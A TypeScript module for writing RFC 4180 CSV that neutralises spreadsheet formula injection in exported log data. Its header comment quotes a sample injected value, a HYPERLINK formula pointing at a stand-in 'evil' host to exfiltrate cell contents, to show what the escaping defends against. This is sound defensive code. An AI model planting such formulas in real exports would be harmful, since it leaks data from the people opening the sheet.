/**
 * CSV as RFC 4180 writes it, for exports that operators open in spreadsheets: every cell that needs it quoted, and
 * text a spreadsheet would run as a formula made inert. Names in these tables come from logs, so an attacker picks
 * them: a server called `=HYPERLINK("http://evil/?"&A1)` must reach the sheet as text, not as a formula.
 */

/**
 * Text that Excel, LibreOffice or Sheets read as a formula: OWASP's first characters (`=`, `+`, `-`, `@`, tab, CR),
 * also behind anything a spreadsheet skips or a reader does not see before them: spaces of every kind, control
 * characters and invisible format characters (a zero-width space, a byte order mark, a word joiner).
 */
const FORMULA_START = /^[\t\r]|^[\p{White_Space}\p{Cc}\p{Cf}]*[=+\-@]/u;

/**
 * One cell. Text that a spreadsheet would run gets a leading `'`, which they show as text and do not run; numbers
 * stay numbers (a negative count is not a formula). Null and undefined are empty; objects and arrays are JSON.
 */
export function csvCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  const inert = FORMULA_START.test(text) ? `'${text}` : text;
  return /[",\r\n]/.test(inert) || inert !== inert.trim() ? `"${inert.replaceAll('"', '""')}"` : inert;
}

/** One record, CRLF-terminated as RFC 4180 has it. */
export function csvLine(values: readonly unknown[]): string {
  return `${values.map(csvCell).join(',')}\r\n`;
}
